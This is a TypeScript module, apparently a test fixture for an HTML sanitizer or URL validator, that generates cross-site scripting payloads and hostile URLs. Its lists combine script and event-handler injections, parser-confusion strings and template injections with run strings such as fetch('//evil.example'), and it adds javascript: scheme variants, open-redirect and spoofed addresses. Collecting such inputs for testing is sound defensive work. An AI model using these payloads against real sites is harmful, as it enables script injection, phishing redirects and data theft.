/** Elements that run or load something, as they are tried in practice; `X` is what they would run. */
const frames = [
  '<script>X</script>',
  '<script src="//evil.example/x.js"></script>',
  '<SCRIPT/x>X</SCRIPT>',
  '<scr<script>ipt>X</scr</script>ipt>',
  '<svg><script>X</script></svg>',
  '<svg><animate onbegin=X attributeName=x dur=1s>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=X>#x"></use></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=X&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=X>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=X>',
  '<iframe srcdoc="<script>X</script>"></iframe>',
  '<object data="javascript:X"></object>',
  '<embed src="javascript:X">',
  '<base href="//evil.example/">',
  '<meta http-equiv="refresh" content="0;url=javascript:X">',
  '<link rel="import" href="//evil.example/x.html">',
  '<style>@import "//evil.example/x.css";</style>',
  '<a href="javascript:X">apri</a>',
  '<template><script>X</script></template>',
  '<xss style="animation-name:x" onanimationstart=X></xss>',
  ']]><script>X</script>',
  '--><script>X</script>',
  '</textarea><script>X</script>',
  '</title><script>X</script>',
  '"><img src=x onerror=X>',
  "'-X-'",
  '${X}',
  '{{constructor.constructor("X")()}}',
] as const
const elements = [
  'img',
  'svg',
  'body',
  'video',
  'audio',
  'input',
  'details',
  'marquee',
  'select',
  'iframe',
] as const
const handlers = [
  'onerror',
  'onload',
  'onfocus autofocus',
  'ontoggle open',
  'onmouseover',
  'onpointerenter',
  'onanimationend',
  'onbeforetoggle',
  'oncut',
  'onwheel',
] as const
const runs = ['alert(1)', "fetch('//evil.example')", 'top.location=1', 'eval(name)'] as const

/** Texts that are markup to whoever takes them for markup: elements, handlers and what they run in all combinations. */
export const hostileTexts: readonly string[] = [
  ...frames.flatMap((frame) => runs.map((run) => frame.replaceAll('X', run))),
  ...elements.flatMap((element) =>
    handlers.flatMap((handler) => runs.map((run) => `<${element} src=x ${handler}=${run}>`)),
  ),
]

const scripts = [
  'javascript',
  'JaVaScRiPt',
  'vbscript',
  'data',
  'blob',
  'file',
  'view-source',
  'livescript',
] as const
const separators = [':', '\t:', '\n:', '&#58;', '%3A', ':\u0000', '\u200b:'] as const

/** Addresses that lead somewhere else than they say, or run something. */
export const hostileAddresses: readonly string[] = [
  ...scripts.flatMap((script) => separators.map((separator) => `${script}${separator}alert(1)`)),
  ' javascript:alert(1)',
  '\u0001javascript:alert(1)',
  'java\nscript:alert(1)',
  '//evil.example/x',
  '/\\evil.example',
  '\\\\evil.example\\x',
  'https://mandato.example@evil.example/',
  'https://mandato.example:pass@evil.example/',
  'https://xn--mandat-0xa.example/',
  'https://evil\u202egpj.example/',
  'https:evil.example',
  'http:/evil.example',
  'https://localhost/',
  'mailto:a@b.example?body=<script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
]
